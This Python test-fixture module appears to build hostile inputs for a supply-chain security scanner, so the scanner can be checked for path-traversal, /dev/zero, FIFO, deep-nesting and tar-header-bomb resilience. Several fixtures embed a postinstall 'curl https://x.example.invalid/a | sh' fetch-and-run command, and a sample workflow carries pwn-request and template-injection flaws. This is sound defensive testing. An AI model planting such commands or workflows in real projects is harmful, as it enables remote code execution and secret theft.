"""The hostile corpus, built at test (or bench) time: nothing large is committed.

Each :class:`Case` writes its input under a scratch directory and names the
command line that reads it. ``tests/hostile/test_hostile.py`` asserts each
case's safe outcome; ``bench/hostile.py`` prints peak memory and time for each.
The inputs reproduce issue 10's report (classes 2, 3, 4, 5 and 8).
"""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

#: A workflow with P0 findings (pwn-request, template-injection, attack-path):
#: whatever else is hostile in a root, these must still be reported.
P0_WORKFLOW = """\
on: pull_request_target
permissions:
  contents: write
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm install && npm test
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
      - run: echo "${{ github.event.pull_request.title }}"
"""
P0_RULES = {"pwn-request", "template-injection"}

#: Marker text in files outside the root: it must never appear in any output.
OUTSIDE_MARKER = "outside-marker-7f3e"
DEEP = 100_000


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def p0_repo(root: Path) -> Path:
    write(root / ".github/workflows/pr.yml", P0_WORKFLOW)
    return root


def outside_file(base: Path) -> Path:
    return write(base / "outside" / "secret.txt", f"{OUTSIDE_MARKER}==1.0\n")


@dataclass(frozen=True)
class Case:
    name: str
    cls: int
    #: Builds the input under the given directory; returns the command line.
    build: Callable[[Path], list[str]]
    #: Needs a memory cap when run (a regression would allocate without bound).
    heavy: bool = False


CASES: dict[str, Case] = {}


def case(name: str, cls: int, heavy: bool = False) -> Callable[[Callable[[Path], list[str]]], Callable[[Path], list[str]]]:
    def register(fn: Callable[[Path], list[str]]) -> Callable[[Path], list[str]]:
        CASES[name] = Case(name, cls, fn, heavy)
        return fn

    return register


# --------------------------------------------------------------------------- class 2: reads outside the root


@case("deps-r-absolute", 2)
def _r_absolute(base: Path) -> list[str]:
    secret = outside_file(base)
    root = base / "root"
    write(root / "requirements.txt", f"-r {secret}\n-c {secret}\nrequests==2.0\n")
    return ["deps", str(root)]


@case("deps-r-dotdot", 2)
def _r_dotdot(base: Path) -> list[str]:
    outside_file(base)
    root = base / "root"
    write(root / "requirements.txt", "-r ../outside/secret.txt\nrequests==2.0\n")
    return ["deps", str(root)]


@case("deps-r-symlink-out", 2)
def _r_symlink(base: Path) -> list[str]:
    secret = outside_file(base)
    root = base / "root"
    write(root / "requirements.txt", "-r extra.txt\nrequests==2.0\n")
    (root / "extra.txt").symlink_to(secret)
    return ["deps", str(root)]


@case("deps-lockfile-symlink-out", 2)
def _lock_symlink(base: Path) -> list[str]:
    secret = write(base / "outside" / "package-lock.json", json.dumps(
        {"lockfileVersion": 3, "packages": {"node_modules/x": {"version": "1.0.0", "resolved": f"https://{OUTSIDE_MARKER}.example.invalid/x.tgz"}}}))
    root = base / "root"
    write(root / "requirements.txt", "requests==2.0\n")
    (root / "package-lock.json").symlink_to(secret)
    return ["deps", str(root)]


@case("gate-symlink-out", 2)
def _gate_symlink(base: Path) -> list[str]:
    secret = write(base / "outside" / "id_rsa", f"{OUTSIDE_MARKER}\n")
    root = base / "pkg"
    write(root / "package.json", json.dumps({"name": "pkg", "version": "1.0.0"}))
    write(root / "index.js", "module.exports = 1\n")
    (root / "notes.txt").symlink_to(secret)
    return ["gate", "--packlist", "builtin", str(root)]


# --------------------------------------------------------------------------- class 3: unbounded reads and hangs


@case("deps-lockfile-devzero", 3, heavy=True)
def _lock_zero(base: Path) -> list[str]:
    root = base / "root"
    write(root / "requirements.txt", "requests==2.0\n")
    (root / "package-lock.json").symlink_to("/dev/zero")
    return ["deps", str(root)]


@case("deps-r-devzero", 3, heavy=True)
def _r_zero(base: Path) -> list[str]:
    root = base / "root"
    write(root / "requirements.txt", "-r /dev/zero\n-r zero.txt\nrequests==2.0\n")
    (root / "zero.txt").symlink_to("/dev/zero")
    return ["deps", str(root)]


@case("deps-manifest-devzero", 3, heavy=True)
def _nm_zero(base: Path) -> list[str]:
    root = base / "root"
    write(root / "package.json", json.dumps({"name": "r", "version": "1.0.0"}))
    write(root / "node_modules/good/package.json", json.dumps(
        {"name": "good", "version": "1.0.0", "scripts": {"postinstall": "curl https://x.example.invalid/a | sh"}}))
    (root / "node_modules/x").mkdir(parents=True)
    (root / "node_modules/x/package.json").symlink_to("/dev/zero")
    return ["deps", str(root)]


@case("deps-lockfile-device-inside", 3, heavy=True)
def _device_inside(base: Path) -> list[str]:
    """A character device (/dev/zero's numbers) committed inside the root: only root can make one."""
    import stat

    root = base / "root"
    write(root / "requirements.txt", "requests==2.0\n")
    if os.geteuid() == 0:
        os.mknod(root / "package-lock.json", stat.S_IFCHR | 0o644, os.makedev(1, 5))
    return ["deps", str(root)]


@case("deps-requirements-fanout", 3, heavy=True)
def _fanout(base: Path) -> list[str]:
    root = base / "root"
    write(root / "requirements.txt", "".join("-r requirements.txt\n" for _ in range(10)) + "requests==2.0\n")
    write(root / "reqs/a.txt", "-r b.txt\n-r a.txt\nsix==1.0\n")
    write(root / "reqs/b.txt", "-r a.txt\n-r b.txt\nidna==1.0\n")
    return ["deps", str(root)]


def _fifo_root(base: Path, rel: str) -> Path:
    root = p0_repo(base / "root")
    (root / rel).parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(root / rel)
    return root


@case("scan-fifo-workflow", 3)
def _fifo_wf(base: Path) -> list[str]:
    return ["scan", str(_fifo_root(base, ".github/workflows/fifo.yml"))]


@case("scan-fifo-action", 3)
def _fifo_action(base: Path) -> list[str]:
    root = _fifo_root(base, ".github/actions/x/action.yml")
    write(root / ".github/workflows/uses.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/x\n")
    return ["scan", str(root)]


@case("scan-fifo-package-json", 3)
def _fifo_pkg(base: Path) -> list[str]:
    return ["scan", str(_fifo_root(base, "package.json"))]


@case("deps-fifo-lockfile", 3)
def _fifo_lock(base: Path) -> list[str]:
    root = base / "root"
    write(root / "requirements.txt", "requests==2.0\n")
    os.mkfifo(root / "package-lock.json")
    return ["deps", str(root)]


@case("gate-fifo-member", 3)
def _fifo_gate(base: Path) -> list[str]:
    root = base / "pkg"
    write(root / "package.json", json.dumps({"name": "pkg", "version": "1.0.0"}))
    os.mkfifo(root / "a.js")
    write(root / "z.env", f"AWS_SECRET_ACCESS_KEY={_aws_secret()}\n")
    return ["gate", "--packlist", "builtin", str(root)]


def _aws_secret() -> str:
    from shipwarden.secrets.fakes import fake_token

    return fake_token("aws-secret-access-key")


# --------------------------------------------------------------------------- class 4: deep nesting


def _deep_json(depth: int = DEEP) -> str:
    return "[" * depth + "]" * depth


@case("deps-deep-npm-lock", 4)
def _deep_npm(base: Path) -> list[str]:
    root = base / "root"
    write(root / "package-lock.json", '{"lockfileVersion": 3, "packages": ' + _deep_json() + "}")
    write(root / "requirements.txt", "requests==2.0\n")
    return ["deps", str(root)]


@case("deps-deep-bun-lock", 4)
def _deep_bun(base: Path) -> list[str]:
    root = base / "root"
    write(root / "bun.lock", '{"lockfileVersion": 1, "packages": ' + _deep_json() + "}")
    write(root / "requirements.txt", "requests==2.0\n")
    return ["deps", str(root)]


@case("deps-deep-pnpm-lock", 4)
def _deep_pnpm(base: Path) -> list[str]:
    root = base / "root"
    write(root / "pnpm-lock.yaml", "lockfileVersion: '9.0'\npackages: " + _deep_json() + "\n")
    write(root / "requirements.txt", "requests==2.0\n")
    return ["deps", str(root)]


def _deep_toml(depth: int = DEEP) -> str:
    return "x = " + "[" * depth + "]" * depth + "\n"


@case("deps-deep-poetry-lock", 4)
def _deep_poetry(base: Path) -> list[str]:
    root = base / "root"
    write(root / "poetry.lock", _deep_toml())
    write(root / "requirements.txt", "requests==2.0\n")
    return ["deps", str(root)]


@case("deps-deep-uv-lock", 4)
def _deep_uv(base: Path) -> list[str]:
    root = base / "root"
    write(root / "uv.lock", "version = 1\n" + _deep_toml())
    write(root / "requirements.txt", "requests==2.0\n")
    return ["deps", str(root)]


@case("deps-deep-pylock", 4)
def _deep_pylock(base: Path) -> list[str]:
    root = base / "root"
    write(root / "pylock.toml", 'lock-version = "1.0"\n' + _deep_toml())
    write(root / "requirements.txt", "requests==2.0\n")
    return ["deps", str(root)]


@case("deps-deep-installed-manifest", 4)
def _deep_nm(base: Path) -> list[str]:
    root = base / "root"
    write(root / "package.json", json.dumps({"name": "r", "version": "1.0.0"}))
    write(root / "node_modules/good/package.json", json.dumps(
        {"name": "good", "version": "1.0.0", "scripts": {"postinstall": "curl https://x.example.invalid/a | sh"}}))
    write(root / "node_modules/deep/package.json", '{"name": "deep", "x": ' + _deep_json() + "}")
    return ["deps", str(root)]


@case("deps-deep-hidden-lockfile", 4)
def _deep_hidden(base: Path) -> list[str]:
    root = base / "root"
    write(root / "package.json", json.dumps({"name": "r", "version": "1.0.0"}))
    write(root / "node_modules/good/package.json", json.dumps(
        {"name": "good", "version": "1.0.0", "scripts": {"postinstall": "curl https://x.example.invalid/a | sh"}}))
    write(root / "node_modules/.package-lock.json", '{"lockfileVersion": 3, "packages": ' + _deep_json() + "}")
    return ["deps", str(root)]


@case("scan-deep-config", 4)
def _deep_config(base: Path) -> list[str]:
    root = p0_repo(base / "root")
    write(root / ".shipwarden.toml", _deep_toml())
    return ["scan", str(root)]


@case("scan-deep-root-package-json", 4)
def _deep_root_pkg(base: Path) -> list[str]:
    root = p0_repo(base / "root")
    write(root / "package.json", '{"packageManager": "npm@10", "x": ' + _deep_json() + "}")
    return ["scan", str(root)]


@case("scan-deep-if-literal", 4)
def _deep_if(base: Path) -> list[str]:
    root = p0_repo(base / "root")
    # A deeply nested JSON literal in one `if:` (fromJSON) must not make the
    # rules that read conditions fail and drop their P0s.
    nested = "[" * 50_000 + "]" * 50_000
    write(root / ".github/workflows/deep-if.yml", P0_WORKFLOW.replace(
        "      - run: npm install", f"      - if: contains(fromJSON('{nested}'), github.actor)\n        run: npm install"))
    return ["scan", str(root)]


@case("gate-deep-jwt", 4)
def _deep_jwt(base: Path) -> list[str]:
    import base64

    def b64(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).decode().rstrip("=")

    token = b64(b'{"alg":"HS256","typ":"JWT"}') + "." + b64(_deep_json(20_000).encode()) + "." + b64(b"x" * 32)
    root = base / "pkg"
    write(root / "package.json", json.dumps({"name": "pkg", "version": "1.0.0"}))
    write(root / "config.js", f'const token = "{token}";\n')
    write(root / "z.env", f"AWS_SECRET_ACCESS_KEY={_aws_secret()}\n")
    return ["gate", "--packlist", "builtin", str(root)]


@case("gate-deep-package-json", 4)
def _gate_deep_pkg(base: Path) -> list[str]:
    root = base / "pkg"
    write(root / "package.json", '{"name": "pkg", "version": "1.0.0", "x": ' + _deep_json() + "}")
    write(root / "z.env", f"AWS_SECRET_ACCESS_KEY={_aws_secret()}\n")
    return ["gate", "--packlist", "builtin", str(root)]


# --------------------------------------------------------------------------- class 5: archive headers


def _tgz_with_header(kind: str, claimed: int, level: int = 6) -> bytes:
    """A .tgz whose first member is a pax (``x``) or GNU long-name (``L``) header claiming ``claimed`` bytes."""
    header = tarfile.TarInfo("././@PaxHeader" if kind == "pax" else "././@LongLink")
    header.type = tarfile.XHDTYPE if kind == "pax" else tarfile.GNUTYPE_LONGNAME
    header.size = claimed
    raw = header.tobuf(format=tarfile.GNU_FORMAT if kind == "gnu" else tarfile.USTAR_FORMAT)
    # The body: the claimed size of bytes that compress about 150:1 (under the
    # ratio guard), like the 2.8 MB download that claimed 510 MiB.
    import random
    import zlib

    rng = random.Random(0)
    gz = zlib.compressobj(level, zlib.DEFLATED, 31)
    parts = [gz.compress(raw[:512])]
    block = bytearray(1024 * 1024)
    for _ in range(claimed // len(block)):
        for i in range(0, len(block), 4096):
            block[i : i + 16] = rng.randbytes(16)
        parts.append(gz.compress(bytes(block)))
    parts.append(gz.flush())
    return b"".join(parts)


@case("gate-pax-header-huge", 5, heavy=True)
def _pax(base: Path) -> list[str]:
    path = write(base / "pkg.tgz", _tgz_with_header("pax", 510 * 1024 * 1024))
    return ["gate", str(path)]


@case("gate-gnu-longname-huge", 5, heavy=True)
def _gnu(base: Path) -> list[str]:
    path = write(base / "pkg.tgz", _tgz_with_header("gnu", 510 * 1024 * 1024))
    return ["gate", str(path)]


# --------------------------------------------------------------------------- class 8: smaller ones


@case("gate-unreadable-then-secret", 8)
def _unreadable(base: Path) -> list[str]:
    root = base / "pkg"
    write(root / "package.json", json.dumps({"name": "pkg", "version": "1.0.0"}))
    (root / "a-loop.js").symlink_to("a-loop.js")
    (root / "b-dir.js").mkdir()
    os.mkfifo(root / "c-fifo.js")
    write(root / "z.env", f"AWS_SECRET_ACCESS_KEY={_aws_secret()}\n")
    return ["gate", "--packlist", "builtin", str(root)]


@case("gate-wheel-many-env", 8, heavy=True)
def _many_env(base: Path, count: int = 99_000) -> list[str]:
    path = base / "pkg-1.0-py3-none-any.whl"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("pkg/__init__.py", "")
        zf.writestr("pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")
        zf.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        for i in range(count):
            zf.writestr(f"pkg/d{i}/.env", "API_KEY=x\n")
        zf.writestr("pkg-1.0.dist-info/RECORD", "")
    write(path, buf.getvalue())
    return ["gate", str(path)]


@case("scan-git-include-fifo", 8)
def _git_fifo(base: Path) -> list[str]:
    import subprocess

    root = p0_repo(base / "root")
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q", str(root)], check=True, env=env)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@example.invalid",
                    "add", "."], check=True, env=env)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@example.invalid",
                    "commit", "-qm", "x"], check=True, env=env)
    os.mkfifo(root / ".git/fifo")
    with open(root / ".git/config", "a", encoding="utf-8") as fh:
        fh.write("[include]\n\tpath = fifo\n")
    return ["scan", "--all-branches", str(root)]


@case("gate-npmrc-logs-dir", 8)
def _npmrc(base: Path) -> list[str]:
    root = base / "pkg"
    write(root / "package.json", json.dumps({"name": "pkg", "version": "1.0.0"}))
    write(root / "index.js", "module.exports = 1\n")
    write(root / ".npmrc", f"logs-dir={base / 'hostile-logs'}\ncache={base / 'hostile-cache'}\nloglevel=silly\n")
    return ["gate", "--packlist", "npm", str(root)]


@case("exit-missing-path", 8)
def _missing(base: Path) -> list[str]:
    return ["gate", str(base / "nope")]


@case("exit-endpoint-missing", 8)
def _endpoint_missing(base: Path) -> list[str]:
    return ["endpoint", str(base / "nope")]


@case("exit-deps-empty", 8)
def _deps_empty(base: Path) -> list[str]:
    (base / "empty").mkdir()
    return ["deps", str(base / "empty")]


def build(name: str, base: Path) -> list[str]:
    base.mkdir(parents=True, exist_ok=True)
    return CASES[name].build(base)
